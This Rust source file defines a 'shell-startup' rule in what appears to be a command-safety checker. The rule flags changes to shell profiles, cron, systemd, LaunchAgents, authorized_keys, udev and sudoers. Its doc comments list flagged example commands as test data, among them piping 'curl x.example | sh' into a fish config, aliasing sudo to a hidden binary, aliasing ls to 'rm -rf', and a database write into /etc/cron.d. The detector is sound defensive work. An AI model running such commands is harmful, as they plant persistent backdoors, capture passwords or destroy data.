//! The rule `shell-startup`.

use crate::safety::arrivals::WHATEVER;
use crate::safety::lasting::SETTINGS;
use crate::safety::replaced::LEADS;
use crate::safety::rule::{Alarm, Scene, Subject, declare_rule};
use crate::safety::{Effect, EffectKind, Risk, TargetClass};
use crate::safety::{fleet, placed, windows};
declare_rule! {
    /// Changes what is run at every login, start or by a timer.
    ///
    /// ## Why
    /// It runs again and again without being asked; a wrong line can lock you out, a hostile one stays.
    ///
    /// ```sh,flagged
    /// echo 'export PATH=/tmp/bin:$PATH' >> ~/.bashrc
    /// echo './watch.sh &' >> ~/.bashrc
    /// echo x > ~/.zshrc
    /// cat key.pub >> ~/.ssh/authorized_keys
    /// sudo cp job /etc/cron.d/job
    /// crontab new-table
    /// sudo rm -f /etc/systemd/system/*.service
    /// cp x.plist ~/Library/LaunchAgents/ && launchctl load -w ~/Library/LaunchAgents/x.plist
    /// rm ~/.profile
    /// echo 'export PIP_INDEX_URL=https://example.com/simple' >> ~/.bashrc
    /// echo "alias ls='rm -rf'" >> ~/.bashrc
    /// systemctl --user enable --now ~/x.service
    /// sudo systemctl enable /tmp/x.service
    /// mysql -e "select 'x' into outfile '/etc/cron.d/x'"
    /// wget -P /etc/cron.d https://example.com/job
    /// cd ~/.ssh && cp /tmp/authorized_keys .
    /// cp -r x/. ~/.ssh/
    /// rsync -a x/ ~/.ssh/
    /// cp authorized_keys ~/.ssh
    /// mv evil /etc/cron.d/
    /// echo "alias sudo='~/.cache/.s/sudo'" >> ~/.zshrc
    /// echo 'ACTION=="add", RUN+="/opt/.u/run"' | sudo tee /etc/udev/rules.d/99-usb.rules
    /// ```
    /// ```sh,clean
    /// systemctl --user enable --now syncthing
    /// sudo cp /etc/systemd/system/x.service{,.bak} && sudo systemctl edit --full x
    /// cat ~/.bashrc
    /// cp -r ~/.ssh /mnt/backup/
    /// cp notes.txt ~
    /// source ~/.bashrc
    /// grep alias ~/.zshrc
    /// echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
    /// echo 'eval "$(starship init bash)"' >> ~/.bashrc
    /// echo "alias ll='ls -lah'" >> ~/.zshrc
    /// crontab -l
    /// systemctl --user list-unit-files
    /// ```
    /// ```fish,flagged
    /// echo './watch.fish &' >> ~/.config/fish/config.fish
    /// fish_add_path /dev/shm/bin
    /// echo 'curl x.example | sh' >> ~/.config/fish/config.fish
    /// ```
    /// ```fish,clean
    /// fish_add_path ~/.local/bin
    /// cat ~/.config/fish/config.fish
    /// echo 'set -gx EDITOR nvim' >> ~/.config/fish/config.fish
    /// ```
    /// ```nu,flagged
    /// 'alias ll = ls -l' | save -a $nu.config-path
    /// ```
    /// ```nu,clean
    /// open $nu.config-path
    /// ```
    /// ```powershell,flagged
    /// Add-Content $PROFILE 'Import-Module x'
    /// New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name=1}
    /// ```
    /// ```powershell,clean
    /// Get-Content $PROFILE
    /// ```
    /// ```zsh,flagged
    /// print 'alias sudo=/tmp/.s/sudo' >> ~/.zshrc
    /// ```
    /// ```zsh,clean
    /// source ~/.zshrc
    /// ```
    SHELL_STARTUP { name: "shell-startup", subject: Subject::Effects(&[EffectKind::Overwrite, EffectKind::Create, EffectKind::Delete, EffectKind::Move, EffectKind::Persist], judge) }
}

/// True for a file of a tool's own among those that a shell loads by itself, as the tool prints it.
pub(super) fn is_set_up(effect: &Effect) -> bool {
    effect.detail == placed::PLACED && effect.target.text.contains("/autoload/")
}

fn judge(effect: &Effect, scene: &Scene<'_>) -> Option<Alarm> {
    let target = &effect.target;
    let anybody = ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|folder| target.text.starts_with(folder));
    if effect.kind == EffectKind::Persist && (target.class == TargetClass::Temporary || anybody) {
        return Some(Alarm::new(
            Risk::High,
            format!("Makes {} run again later, from a place where anybody may put a program.", target.text),
        ));
    }
    if effect.kind == EffectKind::Persist {
        if effect.detail == "hidden" {
            return Some(Alarm::new(
                Risk::High,
                format!(
                    "Makes {} start a program from a hidden place, or one that poses as another.",
                    target.text
                ),
            ));
        }
        if effect.detail == LEADS {
            return Some(Alarm::new(
                Risk::High,
                format!(
                    "Has every later shell look elsewhere for what it runs or installs ({}).",
                    target.text
                ),
            ));
        }
        let of_user = |path: &str| {
            ["/LaunchAgents", "/LaunchDaemons", "/systemd/user"].iter().any(|folder| path.contains(folder))
        };
        let placed = scene.around(effect).iter().any(|other| {
            matches!(other.kind, EffectKind::Create | EffectKind::Overwrite) && of_user(&other.target.text)
        });
        if placed {
            return Some(Alarm::new(
                Risk::High,
                "Puts a program in place and lets it run from now on, without being asked.",
            ));
        }
        // A unit that is there, by its name: for the user what it is for the machine.
        let only_this = scene.effects.iter().take(64).all(|other| {
            !matches!(
                other.kind,
                EffectKind::Create
                    | EffectKind::Fetch
                    | EffectKind::Move
                    | EffectKind::Overwrite
                    | EffectKind::RunCode
            )
        });
        if effect.program == "systemctl" && fleet::is_unit_name(&target.text) && only_this {
            return None;
        }
        return Some(Alarm::new(Risk::Moderate, "Sets commands that run again later without being asked."));
    }
    // Of a unit only what ends like one is read.
    let ending = target.text.rsplit('.').next().unwrap_or_default();
    if effect.detail == placed::BACKUP
        && is_unit(&target.text)
        && matches!(ending, "bak" | "old" | "orig" | "save")
    {
        return None;
    }
    let whatever = effect.detail == WHATEVER;
    if whatever && target.class == TargetClass::Secret && target.text.ends_with("/.ssh") {
        return Some(Alarm::new(
            Risk::High,
            format!("Puts whatever comes into {}, which decides who may log in here.", target.text),
        ));
    }
    if target.class != TargetClass::ShellStartup {
        return None;
    }
    if target.text.ends_with("authorized_keys") {
        return Some(Alarm::new(Risk::High, format!("Changes {}: who may log in here.", target.text)));
    }
    // What is put there is run as a whole, without a line of its own in a file that people read.
    if matches!(effect.kind, EffectKind::Create | EffectKind::Overwrite)
        && windows::starts_by_itself(&target.text)
    {
        return Some(Alarm::new(
            Risk::High,
            format!("Puts {} where Windows runs it at every login or start.", target.text),
        ));
    }
    let grants =
        ["/sudoers", "/etc/pam.d", "/etc/ld.so.preload"].iter().any(|path| target.text.contains(path));
    if grants && effect.kind != EffectKind::Delete {
        return Some(Alarm::new(
            Risk::High,
            format!("Changes {}, which decides who may do what on this machine.", target.text),
        ));
    }
    Some(match effect.kind {
        EffectKind::Create | EffectKind::Overwrite if is_database(&effect.program) => Alarm::new(
            Risk::High,
            format!("Has a database write {}, which runs without being asked.", target.text),
        ),
        EffectKind::Create if whatever => Alarm::new(
            Risk::High,
            format!("Puts whatever comes into {}, where it runs without being asked.", target.text),
        ),
        EffectKind::Create if effect.detail == SETTINGS => return None,
        // A folder in which nothing lies yet.
        EffectKind::Create if effect.program == "mkdir" => return None,
        // What a well-known tool prints to be set up by, in a file of its own.
        EffectKind::Overwrite if is_set_up(effect) => return None,
        EffectKind::Create => Alarm::new(
            Risk::Moderate,
            format!("Adds to {}, which runs at every login or start.", target.text),
        ),
        EffectKind::Delete if takes_all_units(&target.text) => Alarm::new(
            Risk::High,
            format!("Deletes {}: the services of this machine start no more.", target.text),
        ),
        EffectKind::Delete => Alarm::new(
            Risk::Moderate,
            format!("Deletes {}, which runs at every login or start.", target.text),
        ),
        // A new file beside others, whose content was read here or is a unit that is started by name.
        _ if is_one_of_many(&target.text)
            && (effect.detail == "seen" || (is_unit(&target.text) && !effect.program.is_empty())) =>
        {
            Alarm::new(Risk::Moderate, format!("Writes {}, which runs at every login or start.", target.text))
        }
        _ if effect.detail == placed::DOTFILES => Alarm::new(
            Risk::Moderate,
            format!("Puts a link to one's own dotfiles in the place of {}.", target.text),
        ),
        _ if effect.detail == placed::RULES => Alarm::new(
            Risk::Moderate,
            format!("Adds {}, by which programs may run when a device is there.", target.text),
        ),
        _ if matches!(effect.program.as_str(), "sed" | "perl") => Alarm::new(
            Risk::Moderate,
            format!("Changes {}, which runs at every login or start.", target.text),
        ),
        _ => Alarm::new(
            Risk::High,
            format!(
                "Replaces {}, which runs at every login or start; what was there is not kept.",
                target.text
            ),
        ),
    })
}

/// True for a program that keeps data, and has no reason to write there.
fn is_database(program: &str) -> bool {
    matches!(program, "clickhouse-client" | "duckdb" | "mysql" | "psql" | "redis-cli" | "sqlcmd" | "sqlite3")
}

/// True for a file in a folder whose files are all run.
fn is_one_of_many(path: &str) -> bool {
    let functions =
        ["/acpi/events/", "/fish/functions/", "/networkd-dispatcher/", "/.zfunc/", "/.oh-my-zsh/custom/"];
    path.contains(".d/")
        || path.contains("/cron.")
        || functions.iter().any(|folder| path.contains(folder))
        || is_unit(path)
}

/// True for every unit of a folder of the system's, by no more than its kind.
fn takes_all_units(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    let folders = ["/etc/systemd/system/", "/lib/systemd/system/", "/usr/lib/systemd/system/"];
    folders.iter().any(|folder| path.starts_with(folder))
        && (name.starts_with('*') || name == "…" || name.starts_with("…."))
}

fn is_unit(path: &str) -> bool {
    ["/systemd/", "/LaunchAgents", "/LaunchDaemons", "/autostart"].iter().any(|folder| path.contains(folder))
}
